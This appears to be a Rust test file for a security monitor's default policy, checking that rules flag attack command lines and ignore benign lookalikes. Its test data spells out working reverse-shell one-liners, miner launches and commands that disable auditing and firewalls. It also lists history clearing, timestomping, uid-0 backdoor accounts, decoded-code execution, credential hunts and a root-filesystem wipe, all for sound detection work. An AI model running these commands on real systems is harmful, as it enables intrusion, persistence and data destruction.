//! The shipped default policy's command-line rules: each catches the technique's usual
//! spellings, and the everyday commands that share its words stay quiet.

use super::default_tests::default_policy;
use super::*;

/// The rules an exec of `path` with this command line hits (no parent, no socket).
fn hits(p: &Policy, path: &str, cmdline: &str) -> Vec<String> {
    let ctx = ExecContext {
        path,
        sha256: None,
        parent_exe: Some("/usr/bin/bash"),
        stdio_socket: false,
        parent_stdio_socket: false,
        parent_accepted: false,
        image_changed_secs_ago: None,
        downloaded_by: None,
        cmdline: Some(cmdline),
    };
    p.exec_rules(&ctx)
        .iter()
        .map(|r| r.name.to_owned())
        .collect()
}

/// Each (image, command line) hits `rule`, and only it.
fn caught(rule: &str, cases: &[(&str, &str)]) {
    let p = default_policy();
    for (path, cmdline) in cases {
        assert_eq!(hits(&p, path, cmdline), [rule], "{path}: {cmdline}");
    }
}

/// Lookalikes hit no rule at all.
fn quiet(cases: &[(&str, &str)]) {
    let p = default_policy();
    for (path, cmdline) in cases {
        assert!(
            hits(&p, path, cmdline).is_empty(),
            "{path}: {cmdline} hit {:?}",
            hits(&p, path, cmdline)
        );
    }
}

#[test]
fn reverse_shell_one_liners() {
    caught(
        "reverse-shell-command",
        &[
            (
                "/usr/bin/bash",
                "bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
            ),
            ("/usr/bin/bash", "bash -c sh -i &>/dev/udp/10.0.0.5/53 <&1"),
            (
                "/usr/bin/bash",
                "bash -c exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read l; do $l; done",
            ),
            (
                "/usr/bin/bash",
                "bash -c 0<&196;exec 196<>/dev/tcp/h.example/443 0<&196; sh <&196 >&196",
            ),
            (
                "/usr/bin/dash",
                "sh -c cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f",
            ),
            ("/usr/bin/nc.traditional", "nc -e /bin/sh 127.0.0.1 4444"),
            ("/usr/bin/ncat", "ncat 127.0.0.1 4444 --sh-exec bash -i"),
            ("/usr/bin/busybox", "busybox nc 10.0.0.1 9001 -e sh"),
            (
                "/usr/bin/socat",
                "socat exec:bash -li,pty,stderr,setsid tcp:127.0.0.1:4444",
            ),
            ("/usr/bin/socat", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh"),
            (
                "/usr/bin/bash",
                "bash -c exec 5<>/dev/tcp/h/1; while read -r line <&5; do eval \"$line\" >&5; done",
            ),
        ],
    );
    caught(
        "reverse-shell-code",
        &[
            (
                "/usr/bin/python3.11",
                "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('127.0.0.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
            ),
            (
                "/usr/bin/python3.11",
                "python3 -c import socket,pty;s=socket.create_connection(('h',1));pty.spawn('bash')",
            ),
            (
                "/usr/bin/perl",
                "perl -e use Socket;$i='10.0.0.1';socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,sockaddr_in(4444,inet_aton($i)));open(STDIN,'>&S');exec('/bin/sh -i');",
            ),
            (
                "/usr/bin/php8.2",
                "php -r $sock=fsockopen('10.0.0.1',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
            ),
            (
                "/usr/bin/ruby3.1",
                "ruby -rsocket -e f=TCPSocket.open('10.0.0.1',4444).to_i;exec sprintf('/bin/sh -i <&%d >&%d',f,f)",
            ),
        ],
    );
    quiet(&[
        ("/usr/bin/bash", "bash -c echo > /dev/tcp/localhost/8080"),
        (
            "/usr/bin/bash",
            "bash -c exec 3<>/dev/tcp/127.0.0.1/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
        ),
        (
            "/usr/bin/bash",
            "bash -c exec 3<>/dev/tcp/127.0.0.1/80; echo GET / >&3; while read -r line <&3; do echo \"$line\"; done",
        ),
        (
            "/usr/bin/dash",
            "/bin/sh -c depbase=`echo socket.lo | sed 's|[^/]*$|.deps/&|'`; /bin/bash ./libtool --mode=compile gcc -c -o socket.lo socket.c",
        ),
        (
            "/usr/bin/dash",
            "sh -c echo stats | nc -q1 127.0.0.1 11211; gcc -c stats.c",
        ),
        ("/usr/bin/bash", "bash -i"),
        ("/usr/bin/nc.openbsd", "nc -zv 127.0.0.1 22"),
        ("/usr/bin/nc.openbsd", "nc -l 9000"),
        (
            "/usr/bin/socat",
            "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80",
        ),
        (
            "/usr/bin/python3.11",
            "python3 -c import socket; print(socket.gethostname())",
        ),
        ("/usr/bin/python3.11", "python3 -m http.server 8000"),
        (
            "/usr/sbin/nginx",
            "nginx -e /var/log/nginx/error.log -c /etc/nginx/nginx.conf",
        ),
        ("/usr/bin/rsync", "rsync -e ssh -a /srv/nc/ backup:/srv/nc/"),
    ]);
}

#[test]
fn miners() {
    caught(
        "miner-command",
        &[
            (
                "/tmp/.x/kworker",
                "[kworker/0:2] -o stratum+tcp://pool.example:3333 -u 4AbC -p x",
            ),
            (
                "/opt/xmrig/xmrig",
                "/opt/xmrig/xmrig --donate-level 1 -o pool.example:443 --tls",
            ),
            (
                "/usr/bin/python3.11",
                "python3 miner.py --url stratum2+ssl://127.0.0.1:3333",
            ),
            (
                "/home/u/cpuminer-opt",
                "cpuminer-opt -a yespower -o stratum+tcp://127.0.0.1:3333",
            ),
            ("/tmp/xmrig-6.21.0/xmrig", "xmrig-6.21.0 -c config.json"),
        ],
    );
    quiet(&[
        ("/usr/bin/cat", "cat /var/log/xmrig.log"),
        ("/usr/bin/grep", "grep -r xmrig /etc"),
        ("/usr/bin/curl", "curl https://example.org/stratum/docs"),
    ]);
}

#[test]
fn watchers_stopped_or_killed() {
    caught(
        "security-service-stopped",
        &[
            ("/usr/bin/systemctl", "systemctl stop auditd"),
            (
                "/usr/bin/systemctl",
                "systemctl --now disable apparmor.service",
            ),
            (
                "/usr/bin/systemctl",
                "systemctl mask --now systemd-journald.service",
            ),
            (
                "/usr/bin/systemctl",
                "systemctl stop nginx falco-modern-bpf",
            ),
            ("/usr/sbin/service", "service auditd stop"),
            ("/usr/sbin/service", "service vigil stop"),
            ("/usr/sbin/chkconfig", "chkconfig auditd off"),
            ("/usr/sbin/update-rc.d", "update-rc.d rsyslog disable"),
        ],
    );
    caught(
        "security-process-killed",
        &[
            ("/usr/bin/pkill", "pkill -9 auditd"),
            ("/usr/bin/killall", "killall vigil"),
            ("/usr/bin/pkill", "pkill -f osqueryd"),
        ],
    );
    quiet(&[
        ("/usr/bin/systemctl", "systemctl status auditd"),
        ("/usr/bin/systemctl", "systemctl restart rsyslog"),
        (
            "/usr/bin/systemctl",
            "systemctl kill -s HUP rsyslog.service",
        ),
        ("/usr/bin/systemctl", "systemctl stop nginx"),
        ("/usr/bin/systemctl", "systemctl start auditd"),
        ("/usr/sbin/service", "service rsyslog rotate"),
        ("/usr/sbin/invoke-rc.d", "invoke-rc.d rsyslog stop"),
        ("/usr/bin/pkill", "pkill -HUP nginx"),
        ("/usr/bin/journalctl", "journalctl -u auditd --since today"),
    ]);
}

#[test]
fn protections_turned_off() {
    caught(
        "protection-disabled",
        &[
            ("/usr/sbin/setenforce", "setenforce 0"),
            ("/usr/sbin/setenforce", "/usr/sbin/setenforce Permissive"),
            ("/usr/sbin/auditctl", "auditctl -e 0"),
            ("/usr/sbin/auditctl", "auditctl -D"),
            ("/usr/sbin/aa-teardown", "aa-teardown"),
            ("/usr/sbin/ufw", "ufw --force disable"),
            ("/usr/sbin/xtables-nft-multi", "iptables -F"),
            ("/usr/sbin/xtables-nft-multi", "/usr/sbin/iptables --flush"),
            ("/usr/sbin/xtables-nft-multi", "ip6tables -t filter -F"),
            ("/usr/sbin/xtables-legacy-multi", "iptables-legacy -F"),
            ("/usr/sbin/xtables-nft-multi", "iptables -P INPUT ACCEPT"),
            ("/usr/sbin/xtables-nft-multi", "iptables -w --policy INPUT ACCEPT"),
            ("/usr/sbin/nft", "nft flush ruleset"),
            ("/usr/sbin/sysctl", "sysctl -w kernel.randomize_va_space=0"),
            ("/usr/sbin/sysctl", "sysctl kernel.yama.ptrace_scope=0"),
        ],
    );
    quiet(&[
        ("/usr/sbin/setenforce", "setenforce 1"),
        ("/usr/sbin/auditctl", "auditctl -l"),
        ("/usr/sbin/auditctl", "auditctl -e 1"),
        ("/usr/sbin/ufw", "ufw allow 22/tcp"),
        ("/usr/sbin/xtables-nft-multi", "iptables -F DOCKER-USER"),
        ("/usr/sbin/xtables-nft-multi", "iptables -t nat -F"),
        ("/usr/sbin/xtables-nft-multi", "iptables -P INPUT DROP"),
        ("/usr/sbin/xtables-nft-multi", "iptables -P FORWARD ACCEPT"),
        ("/usr/sbin/xtables-nft-multi", "iptables -L -n"),
        ("/usr/sbin/nft", "nft list ruleset"),
        ("/usr/sbin/nft", "nft flush chain inet filter input"),
        ("/usr/sbin/sysctl", "sysctl -w net.ipv4.ip_forward=0"),
        ("/usr/sbin/sysctl", "sysctl kernel.randomize_va_space"),
        ("/usr/sbin/sysctl", "sysctl -w kernel.yama.ptrace_scope=1"),
    ]);
}

#[test]
fn tracks_covered() {
    caught(
        "tracks-cleared",
        &[
            (
                "/usr/bin/bash",
                "bash -c unset HISTFILE; curl -s http://x | sh",
            ),
            ("/usr/bin/bash", "bash -c export HISTFILE=/dev/null"),
            (
                "/usr/bin/bash",
                "bash -c history -c && rm -f ~/.bash_history",
            ),
            (
                "/usr/bin/journalctl",
                "journalctl --rotate --vacuum-time=1s",
            ),
            ("/usr/bin/dmesg", "dmesg -C"),
            ("/usr/bin/touch", "touch -r /usr/bin/ls /usr/local/bin/.backdoor"),
            ("/usr/bin/touch", "touch -d 2019-01-01 /etc/cron.d/updates"),
            ("/usr/bin/touch", "touch -t 201901010000 /usr/sbin/sshd"),
            ("/usr/bin/touch", "touch --reference=/bin/ls /lib/x86_64-linux-gnu/libx.so"),
        ],
    );
    quiet(&[
        ("/usr/bin/touch", "touch /etc/nologin"),
        ("/usr/bin/touch", "touch -d @0 target/release/app"),
        ("/usr/bin/touch", "touch -r Makefile config.status"),
        ("/usr/bin/journalctl", "journalctl --rotate"),
        ("/usr/bin/journalctl", "journalctl --disk-usage"),
        ("/usr/bin/dmesg", "dmesg -T"),
        ("/usr/bin/bash", "bash -c echo $HISTFILE"),
        ("/usr/bin/bash", "bash -c HISTSIZE=10000"),
    ]);
}

#[test]
fn backdoor_accounts_and_crontabs() {
    caught(
        "root-account-created",
        &[
            (
                "/usr/sbin/useradd",
                "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm",
            ),
            ("/usr/sbin/useradd", "useradd -ou 0 toor"),
            ("/usr/sbin/usermod", "usermod -u 0 -o bob"),
            ("/usr/sbin/adduser", "adduser --uid 0 --ingroup root x"),
            ("/usr/sbin/useradd", "useradd --non-unique --uid=0 x"),
        ],
    );
    caught(
        "root-password-set",
        &[
            ("/usr/bin/passwd", "passwd root"),
            ("/usr/bin/passwd", "passwd -u root"),
            ("/usr/bin/passwd", "passwd -d root"),
            ("/usr/sbin/usermod", "usermod -p $6$salt$hash root"),
            ("/usr/sbin/usermod", "usermod --password=$6$x root"),
        ],
    );
    quiet(&[
        ("/usr/bin/passwd", "passwd"),
        ("/usr/bin/passwd", "passwd alice"),
        ("/usr/bin/passwd", "passwd -S root"),
        ("/usr/bin/passwd", "passwd -l root"),
        ("/usr/sbin/usermod", "usermod -p $6$x rooter"),
        ("/usr/sbin/usermod", "usermod -s /bin/zsh root"),
    ]);
    caught(
        "privileged-group-granted",
        &[
            ("/usr/sbin/usermod", "usermod -aG sudo rtuser"),
            ("/usr/sbin/usermod", "usermod -a -G adm,docker deploy"),
            ("/usr/sbin/usermod", "usermod --groups=wheel bob"),
            ("/usr/sbin/useradd", "useradd -m -s /bin/bash -G sudo deploy"),
            ("/usr/bin/gpasswd", "gpasswd -a deploy docker"),
            ("/usr/bin/gpasswd", "gpasswd -M alice,bob sudo"),
            ("/usr/sbin/adduser", "adduser deploy sudo"),
            ("/usr/sbin/adduser", "adduser --quiet deploy lxd"),
        ],
    );
    caught(
        "crontab-installed-by-script",
        &[
            ("/usr/bin/crontab", "crontab -"),
            ("/usr/bin/crontab", "crontab /tmp/.c"),
            ("/usr/bin/crontab", "crontab -u www-data -"),
            ("/usr/bin/crontab", "crontab jobs.txt"),
        ],
    );
    quiet(&[
        (
            "/usr/sbin/useradd",
            "useradd -r -u 999 --home-dir /var/lib/app app",
        ),
        ("/usr/sbin/usermod", "usermod -aG audio,video deploy"),
        ("/usr/sbin/usermod", "usermod -aG sudoers-archive deploy"),
        ("/usr/sbin/usermod", "usermod -s /bin/zsh root"),
        ("/usr/bin/gpasswd", "gpasswd -d deploy sudo"),
        ("/usr/sbin/adduser", "adduser --disabled-password deploy"),
        // A package creating its own system user and group, as docker.io's and lxd's do.
        ("/usr/sbin/adduser", "adduser --system --group docker"),
        ("/usr/sbin/addgroup", "addgroup --system docker"),
        ("/usr/sbin/useradd", "useradd -u 1000 -m alice"),
        ("/usr/bin/crontab", "crontab -l"),
        ("/usr/bin/crontab", "crontab -e"),
        ("/usr/bin/crontab", "crontab -u root -l"),
        ("/usr/bin/crontab", "crontab -r"),
    ]);
}

#[test]
fn interpreters_running_what_they_decode() {
    caught(
        "decoded-code-run",
        &[
            (
                "/usr/bin/python3.11",
                "python3 -c exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))",
            ),
            (
                "/usr/bin/python3.11",
                "python3 -c import base64,zlib;exec(zlib.decompress(base64.b64decode('eJw=')))",
            ),
            ("/usr/bin/python2.7", "python -c exec 'aW1wb3J0'.decode('base64')"),
            ("/usr/bin/perl", "perl -MMIME::Base64 -e eval(decode_base64('c3lzdGVt'))"),
            ("/usr/bin/php8.2", "php -r eval(base64_decode('c3lzdGVt'));"),
            ("/usr/bin/ruby3.1", "ruby -e require 'base64';eval(Base64.decode64('cHV0cw=='))"),
            ("/usr/bin/node", "node -e eval(Buffer.from('Y29uc29sZQ==','base64').toString())"),
        ],
    );
    quiet(&[
        ("/usr/bin/python3.11", "python3 -c import base64,sys; print(base64.b64decode(sys.argv[1]))"),
        ("/usr/bin/python3.11", "python3 -c import json; print(eval('1+1'))"),
        ("/usr/bin/python3.11", "python3 -m base64 -d payload.txt"),
        ("/usr/bin/perl", "perl -MMIME::Base64 -ne print decode_base64($_)"),
        ("/usr/bin/base64", "base64 -d x | python3 -c exec"),
    ]);
}

#[test]
fn file_attributes_and_host_namespaces() {
    caught(
        "immutable-attribute-changed",
        &[
            ("/usr/bin/chattr", "chattr +i /etc/ld.so.preload"),
            ("/usr/bin/chattr", "chattr -ia /etc/passwd"),
            ("/usr/bin/chattr", "chattr -R -ia /var/spool/cron"),
            ("/usr/bin/chattr", "/usr/bin/chattr =a /var/log/x"),
        ],
    );
    caught(
        "host-namespaces-entered",
        &[
            ("/usr/bin/nsenter", "nsenter -t 1 -m -u -n -i sh"),
            (
                "/usr/bin/nsenter",
                "nsenter --target=1 --mount --pid -- bash",
            ),
            ("/usr/bin/nsenter", "nsenter --mount=/proc/1/ns/mnt -- sh"),
        ],
    );
    quiet(&[
        ("/usr/bin/chattr", "chattr +C /var/lib/postgresql"),
        ("/usr/bin/lsattr", "lsattr -a /etc/passwd"),
        ("/usr/bin/nsenter", "nsenter -t 4242 -n ip addr"),
        ("/usr/bin/nsenter", "nsenter -t 12 -n ss -lnt"),
    ]);
}

#[test]
fn privilege_escalation_recon_and_wipes() {
    caught(
        "privilege-escalation-recon",
        &[
            ("/usr/bin/find", "find / -perm -4000 -type f"),
            (
                "/usr/bin/find",
                "find / -xdev ( -perm -4000 -o -perm -2000 ) -type f",
            ),
            ("/usr/bin/find", "find / -perm -u=s -type f"),
            ("/usr/bin/find", "find /usr -perm /6000"),
            ("/usr/sbin/getcap", "getcap -r /"),
            ("/usr/bin/bash", "bash linpeas.sh -a"),
            ("/usr/bin/dash", "sh /dev/shm/LinEnum.sh"),
            ("/tmp/pspy64", "./pspy64 -pf -i 1000"),
        ],
    );
    caught(
        "root-filesystem-wipe",
        &[("/usr/bin/rm", "rm -rf --no-preserve-root /")],
    );
    quiet(&[
        ("/usr/bin/find", "find . -perm 644 -type f"),
        ("/usr/bin/find", "find /srv -perm -0002 -type d"),
        ("/usr/bin/find", "find . -name *.py -print0"),
        ("/usr/sbin/getcap", "getcap /usr/bin/ping"),
        ("/usr/bin/rm", "rm -rf /tmp/build"),
        ("/usr/bin/git", "git commit -m fix the linpeas-style check"),
    ]);
}

#[test]
fn secrets_hunted_across_the_disk() {
    caught(
        "credential-hunt",
        &[
            ("/usr/bin/grep", "grep -rE AKIA[0-9A-Z]{16} /home /root"),
            ("/usr/bin/grep", "grep -Rl aws_secret_access_key /"),
            ("/usr/bin/grep", "grep --recursive -l BEGIN RSA PRIVATE KEY /home"),
            ("/usr/bin/grep", "grep -l PRIVATE KEY -r /etc /home"),
            ("/usr/bin/rg", "rg -l AKIA /"),
        ],
    );
    quiet(&[
        ("/usr/bin/grep", "grep -r listen /etc/nginx"),
        ("/usr/bin/grep", "grep AKIA /root/.aws/config"),
        ("/usr/bin/grep", "grep -i private key notes.txt"),
        ("/usr/bin/rg", "rg -n TODO src"),
    ]);
}
